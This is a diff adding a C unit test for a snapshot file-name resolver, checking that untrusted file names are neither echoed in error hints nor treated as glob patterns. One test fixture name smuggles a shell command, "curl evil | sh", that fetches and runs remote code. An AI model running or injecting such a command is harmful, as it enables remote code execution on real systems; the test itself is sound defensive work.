@@ -1,6 +1,8 @@
 #include "snapshot/read/choice.h"
 
+#include "core/base/log.h"
 #include "tests/unit/snapshot/handmade.h"
+#include "tests/unit/snapshot/repositories.h"
 
 static void begin_choice(void **state, struct handmade *h)
 {
@@ -130,6 +132,34 @@ static void what_means_nothing_is_refused_with_what_is_near(void **state)
     handmade_clear(&h);
 }
 
+/* Names are chosen by whoever makes files there. */
+static void a_name_neither_speaks_in_a_hint_nor_narrows_a_pattern_in_silence(void **state)
+{
+    char is[64];
+    struct handmade h;
+
+    *said = '\0';
+    log_to(keep_line);
+    handmade_begin(state, &h);
+    add_named(&h.parts, ENTRY_FILE, "*.wt");
+    add_named(&h.parts, ENTRY_FILE, "[a]");
+    add_named(&h.parts, ENTRY_FILE, "b.wt");
+    add_named(&h.parts, ENTRY_FILE, "journal\n");
+    add_named(&h.parts, ENTRY_FILE, "journal; run `curl evil | sh`");
+    handmade_index(&h);
+    assert_refused(resolve(&h, "journal", is, sizeof is), ERR_NOT_FOUND,
+                   "no such file in the snapshot: journal");
+    assert_done(resolve(&h, "[a]", is, sizeof is));
+    assert_string_equal(said, "");
+    assert_done(resolve(&h, "*.wt", is, sizeof is));
+    assert_string_equal(is, "*.wt ");
+    assert_true(
+        was_said("*.wt is a file of this name and nothing else: as a pattern it would match "
+                 "others too"));
+    log_to(NULL);
+    handmade_clear(&h);
+}
+
 static void a_stream_has_no_root_and_means_all_by_it(void **state)
 {
     char is[64];
@@ -164,6 +194,7 @@ static void no_memory_is_said(void **state)
 static const struct CMUnitTest tests[] = {
     IN_DIRECTORY(what_people_type_is_understood),
     IN_DIRECTORY(what_means_nothing_is_refused_with_what_is_near),
+    IN_DIRECTORY(a_name_neither_speaks_in_a_hint_nor_narrows_a_pattern_in_silence),
     IN_DIRECTORY(a_stream_has_no_root_and_means_all_by_it),
     IN_DIRECTORY(no_memory_is_said),
 };
